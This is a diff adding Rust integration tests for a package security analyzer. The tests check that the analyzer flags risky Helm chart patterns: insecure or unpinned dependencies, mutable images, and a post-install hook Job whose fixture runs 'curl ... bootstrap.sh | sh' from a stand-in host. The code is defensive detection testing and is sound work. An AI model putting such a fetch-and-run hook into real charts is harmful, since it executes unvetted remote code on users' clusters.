@@ -0,0 +1,187 @@
+//! Integration tests for Helm chart analysis
+
+use std::fs;
+use tempfile::TempDir;
+use threatflux_package_security::core::{rules, AnalysisOptions, FindingType};
+use threatflux_package_security::{
+    HelmAnalyzer, PackageAnalyzer, PackageSecurityAnalyzer, RiskLevel,
+};
+
+const CHART_YAML: &str = r#"
+apiVersion: v2
+name: web-platform
+version: 1.4.0
+appVersion: "2.3.1"
+description: Platform web tier
+dependencies:
+  - name: postgresql
+    version: 12.5.8
+    repository: https://charts.bitnami.com/bitnami
+  - name: redis
+    version: 17.11.3
+    repository: oci://registry-1.docker.io/bitnamicharts
+    condition: redis.enabled
+  - name: metrics
+    version: 0.3.0
+    repository: http://charts.example.com/stable
+  - name: legacy
+    version: 2.0.0
+    repository: "@stable"
+  - name: common
+    version: 1.0.0
+    repository: file://../common
+"#;
+
+const CHART_LOCK: &str = r#"
+dependencies:
+  - name: postgresql
+    repository: https://charts.bitnami.com/bitnami
+    version: 12.5.8
+  - name: redis
+    repository: oci://registry-1.docker.io/bitnamicharts
+    version: 17.11.3
+  - name: metrics
+    repository: http://charts.example.com/stable
+    version: 0.3.0
+digest: sha256:0f4c
+generated: "2024-01-01T00:00:00Z"
+"#;
+
+const VALUES_YAML: &str = r#"
+image:
+  repository: example/web
+  tag: ""
+migrations:
+  image: busybox:latest
+"#;
+
+const HOOK_JOB: &str = r#"
+apiVersion: batch/v1
+kind: Job
+metadata:
+  name: {{ .Release.Name }}-setup
+  annotations:
+    "helm.sh/hook": post-install,post-upgrade
+    "helm.sh/hook-delete-policy": hook-succeeded
+spec:
+  template:
+    spec:
+      restartPolicy: Never
+      containers:
+        - name: setup
+          image: "alpine:3.19"
+          command: ["/bin/sh", "-c"]
+          args:
+            - curl -fsSL https://setup.example.net/bootstrap.sh | sh
+"#;
+
+fn write_chart(dir: &std::path::Path) {
+    fs::write(dir.join("Chart.yaml"), CHART_YAML).unwrap();
+    fs::write(dir.join("values.yaml"), VALUES_YAML).unwrap();
+    fs::create_dir_all(dir.join("templates")).unwrap();
+    fs::write(dir.join("templates/setup-job.yaml"), HOOK_JOB).unwrap();
+}
+
+#[tokio::test]
+async fn test_helm_chart_dependencies() {
+    let temp_dir = TempDir::new().unwrap();
+    write_chart(temp_dir.path());
+    fs::write(temp_dir.path().join("Chart.lock"), CHART_LOCK).unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    assert_eq!(result.package_info().package_type(), "helm");
+    assert_eq!(result.package_info().metadata().name, "web-platform");
+
+    let deps = &result.dependency_analysis().dependency_tree;
+    assert_eq!(deps.len(), 5);
+    let redis = deps.iter().find(|d| d.name == "redis").unwrap();
+    assert_eq!(redis.resolved_version.as_deref(), Some("17.11.3"));
+
+    let findings = &result.risk_assessment().detailed_findings;
+    let rule_components = |rule: &str| -> Vec<&str> {
+        findings
+            .iter()
+            .filter(|f| f.rule_id.as_deref() == Some(rule))
+            .map(|f| f.affected_components[0].as_str())
+            .collect()
+    };
+    assert_eq!(rule_components(rules::INSECURE_TRANSPORT), ["metrics"]);
+    assert_eq!(
+        rule_components(rules::HELM_UNTRUSTED_REPOSITORY),
+        ["legacy"]
+    );
+    assert_eq!(
+        rule_components(rules::HELM_DEPENDENCY_NOT_LOCKED),
+        ["legacy"]
+    );
+
+    // Without the lock file nothing remote is pinned
+    fs::remove_file(temp_dir.path().join("Chart.lock")).unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let missing = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.rule_id.as_deref() == Some(rules::HELM_MISSING_LOCK_FILE))
+        .expect("missing lock file reported");
+    assert_eq!(missing.affected_components.len(), 4);
+}
+
+#[tokio::test]
+async fn test_helm_hook_downloading_code() {
+    let temp_dir = TempDir::new().unwrap();
+    write_chart(temp_dir.path());
+
+    let analyzer = HelmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let hook = &result.package.templates[0];
+    assert_eq!(hook.kind.as_deref(), Some("Job"));
+    assert_eq!(hook.hook_events, ["post-install", "post-upgrade"]);
+
+    let finding = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.rule_id.as_deref() == Some(rules::HELM_HOOK_REMOTE_EXEC))
+        .expect("hook running downloaded code reported");
+    assert_eq!(finding.finding_type, FindingType::SuspiciousActivity);
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert!(finding.evidence[0].contains("bootstrap.sh | sh"));
+}
+
+#[tokio::test]
+async fn test_helm_values_images() {
+    let temp_dir = TempDir::new().unwrap();
+    write_chart(temp_dir.path());
+    let analyzer = HelmAnalyzer::new().unwrap();
+
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let images: Vec<_> = result
+        .package
+        .images
+        .iter()
+        .map(|i| i.reference.as_str())
+        .collect();
+    assert_eq!(images, ["example/web", "busybox:latest"]);
+    assert!(!result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .any(|f| f.rule_id.as_deref() == Some(rules::HELM_MUTABLE_IMAGE)));
+
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &AnalysisOptions::paranoid())
+        .await
+        .unwrap();
+    let mutable: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.rule_id.as_deref() == Some(rules::HELM_MUTABLE_IMAGE))
+        .collect();
+    assert_eq!(mutable.len(), 1);
+    assert_eq!(mutable[0].evidence[0], "migrations.image: busybox:latest");
+}